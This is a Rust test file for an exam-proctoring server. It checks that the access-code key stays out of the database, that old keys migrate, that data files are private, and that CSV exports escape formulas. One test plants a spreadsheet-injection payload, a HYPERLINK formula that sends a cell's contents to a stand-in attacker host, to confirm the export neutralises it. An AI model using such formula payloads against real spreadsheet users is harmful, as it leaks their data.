//! The server key lives outside the database (key file 0600 or configuration): a copy of the
//! database yields no access code, an old database moves its key out at the first start with
//! printed slips still valid, data files are private, and CSV exports do not run formulas.

use base64::{Engine, engine::general_purpose::URL_SAFE_NO_PAD};
use reqwest::StatusCode;
use sathach::{attempts, config::default_database_url, db::Db};
use sha2::{Digest, Sha256};

use crate::{
    candidates,
    helpers::{PROCTOR, TestApp, location, spawn_app_with, spawn_app_with_demo},
};

fn key_file(app: &TestApp) -> std::path::PathBuf {
    app.settings.data_dir.join("server.key")
}

#[cfg(unix)]
fn mode(path: &std::path::Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(path)
        .unwrap_or_else(|e| panic!("{}: {e}", path.display()))
        .permissions()
        .mode()
        & 0o777
}

/// What the code was stored as before: SHA-256 of the canonical code, with no key.
fn unkeyed(code: &str) -> String {
    let canonical = attempts::model::normalise_access_code(code);
    URL_SAFE_NO_PAD.encode(Sha256::digest(canonical.as_bytes()))
}

async fn stored_digest(db: &Db, attempt: &str) -> String {
    sqlx::query_scalar("SELECT access_code_digest FROM attempts WHERE id = $1")
        .bind(attempt)
        .fetch_one(&db.read)
        .await
        .unwrap()
}

#[tokio::test]
async fn a_copy_of_the_database_alone_yields_no_access_code() {
    let app = spawn_app_with_demo().await;
    let s = candidates::unadmitted(&app, 0).await;
    let values: Vec<String> = sqlx::query_scalar("SELECT value FROM server_secrets")
        .fetch_all(&app.db.read)
        .await
        .unwrap();
    for value in &values {
        let Ok(key) = URL_SAFE_NO_PAD.decode(value) else {
            continue;
        };
        assert_ne!(
            attempts::access_code(&key, &s.attempt, 1),
            s.code,
            "the database holds the key that derives the codes"
        );
    }
    let digest = stored_digest(&app.db, &s.attempt).await;
    assert_ne!(
        digest,
        unkeyed(&s.code),
        "an unkeyed digest of a 46-bit code can be searched"
    );
    let text = std::fs::read_to_string(key_file(&app)).expect("the key file exists");
    assert!(!values.iter().any(|v| v.trim() == text.trim()));
    #[cfg(unix)]
    assert_eq!(mode(&key_file(&app)), 0o600, "the key file is private");
    // The copy plus the key file does sign the candidate in.
    candidates::admit(&app, &s.session, &s.attempt).await;
    assert_eq!(location(&s.sign_in().await), "/thi/lobby");
}

#[tokio::test]
async fn an_old_database_moves_its_key_out_and_printed_slips_keep_working() {
    let app = spawn_app_with_demo().await;
    let before = candidates::unadmitted(&app, 0).await;
    let key_text = std::fs::read_to_string(key_file(&app)).unwrap();
    let original = key_text.trim().to_string();
    let file = key_file(&app);
    let sqlite = sathach::db::sqlite_file(app.settings.database_url.expose());
    // As sathach left it before the upgrade: the key in the database, digests unkeyed, the
    // database readable by everyone, no key file.
    let app = app
        .restart(|db| async move {
            let key = URL_SAFE_NO_PAD.decode(key_text.trim()).unwrap();
            sqlx::query("DELETE FROM server_secrets")
                .execute(&db.write)
                .await
                .unwrap();
            sqlx::query("INSERT INTO server_secrets (name, value) VALUES ('hmac', $1)")
                .bind(key_text.trim())
                .execute(&db.write)
                .await
                .unwrap();
            let all: Vec<(String, i64)> =
                sqlx::query_as("SELECT id, code_generation FROM attempts")
                    .fetch_all(&db.read)
                    .await
                    .unwrap();
            for (id, generation) in all {
                sqlx::query("UPDATE attempts SET access_code_digest = $1 WHERE id = $2")
                    .bind(unkeyed(&attempts::access_code(&key, &id, generation)))
                    .bind(&id)
                    .execute(&db.write)
                    .await
                    .unwrap();
            }
            std::fs::remove_file(&file).unwrap();
            #[cfg(unix)]
            if let Some(path) = sqlite {
                use std::os::unix::fs::PermissionsExt;
                let open = std::fs::Permissions::from_mode(0o644);
                std::fs::set_permissions(&path, open).unwrap();
            }
        })
        .await;
    let moved = std::fs::read_to_string(key_file(&app)).expect("the key file is written");
    assert_eq!(moved.trim(), original, "the same key, so the same codes");
    let left: i64 = app
        .count("SELECT COUNT(*) FROM server_secrets WHERE name = 'hmac'")
        .await;
    assert_eq!(left, 0, "the key left the database");
    #[cfg(unix)]
    {
        assert_eq!(mode(&key_file(&app)), 0o600);
        if let Some(path) = sathach::db::sqlite_file(app.settings.database_url.expose()) {
            assert_eq!(mode(&path), 0o600, "an old database is made private");
        }
    }
    let after = candidates::ready(&app, 0).await;
    assert_eq!(after.code, before.code, "the printed slip is unchanged");
    assert_ne!(
        stored_digest(&app.db, &after.attempt).await,
        unkeyed(&after.code)
    );
    assert_eq!(location(&after.sign_in().await), "/thi/lobby");
}

#[tokio::test]
async fn a_start_without_the_key_or_with_another_key_is_refused() {
    let app = spawn_app_with_demo().await;
    let elsewhere = tempfile::tempdir().unwrap();
    let mut db = app.db.clone();
    db.keys.file = elsewhere.path().join("server.key");
    let missing = sathach::startup::server_secret(&db).await.unwrap_err();
    assert!(
        format!("{missing:#}").contains("server key is missing"),
        "{missing:#}"
    );
    std::fs::write(&db.keys.file, sathach::vocab::token::random_token()).unwrap();
    let other = sathach::startup::server_secret(&db).await.unwrap_err();
    assert!(format!("{other:#}").contains("not the key"), "{other:#}");
    // Several PostgreSQL nodes share the key from configuration instead of a file.
    let shared = std::fs::read_to_string(key_file(&app)).unwrap();
    db.keys.configured = Some(sathach::config::Secret::new(shared.trim()));
    assert_eq!(
        sathach::startup::server_secret(&db).await.unwrap(),
        sathach::startup::server_secret(&app.db).await.unwrap()
    );
}

#[cfg(unix)]
#[tokio::test]
async fn the_data_folder_database_and_backups_are_private() {
    let app = spawn_app_with(|settings| {
        settings.data_dir = settings.data_dir.join("data");
        if settings.database_url.expose().starts_with("sqlite:") {
            settings.database_url =
                sathach::config::Secret::new(default_database_url(&settings.data_dir));
        }
    })
    .await;
    sathach::demo::load(&app.db).await.unwrap();
    assert_eq!(mode(&app.settings.data_dir), 0o700, "the data folder");
    assert_eq!(mode(&key_file(&app)), 0o600, "the key file");
    let Some(path) = sathach::db::sqlite_file(app.settings.database_url.expose()) else {
        return;
    };
    for suffix in ["", "-wal", "-shm"] {
        let file = format!("{}{suffix}", path.display());
        assert_eq!(mode(file.as_ref()), 0o600, "{file}");
    }
    let copy = app.settings.data_dir.join("copy.db");
    app.db.backup_to(&copy).await.unwrap();
    assert_eq!(mode(&copy), 0o600, "the backup");
    let keys: i64 = {
        let options: sqlx::any::AnyConnectOptions =
            format!("sqlite://{}", copy.display()).parse().unwrap();
        let pool = sqlx::AnyPool::connect_with(options).await.unwrap();
        sqlx::query_scalar("SELECT COUNT(*) FROM server_secrets WHERE name = 'hmac'")
            .fetch_one(&pool)
            .await
            .unwrap()
    };
    assert_eq!(keys, 0, "a backup holds no key");
}

#[tokio::test]
async fn a_candidate_named_as_a_formula_is_exported_as_text() {
    let app = spawn_app_with_demo().await;
    app.signed_in_as(PROCTOR).await;
    let (session, attempts) = app.demo_session().await;
    let formula = r#"=HYPERLINK("http://evil.example/?d="&A1,"Bấm")"#;
    sqlx::query(
        "UPDATE people SET full_name = $1 WHERE id = (SELECT person_id FROM attempts WHERE id = $2)",
    )
    .bind(formula)
    .bind(&attempts[0])
    .execute(&app.db.write)
    .await
    .unwrap();
    for export in ["report.csv", "events.csv"] {
        let res = app.get(&format!("/sessions/{session}/{export}")).await;
        assert_eq!(res.status(), StatusCode::OK);
        let bytes = res.bytes().await.unwrap();
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(&bytes[3..]);
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                let number = cell.parse::<f64>().is_ok();
                assert!(
                    number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{export}: {cell:?} would run in Excel"
                );
            }
        }
        if export == "report.csv" {
            let text = String::from_utf8(bytes.to_vec()).unwrap();
            assert!(text.contains("'=HYPERLINK("), "{text}");
        }
    }
}
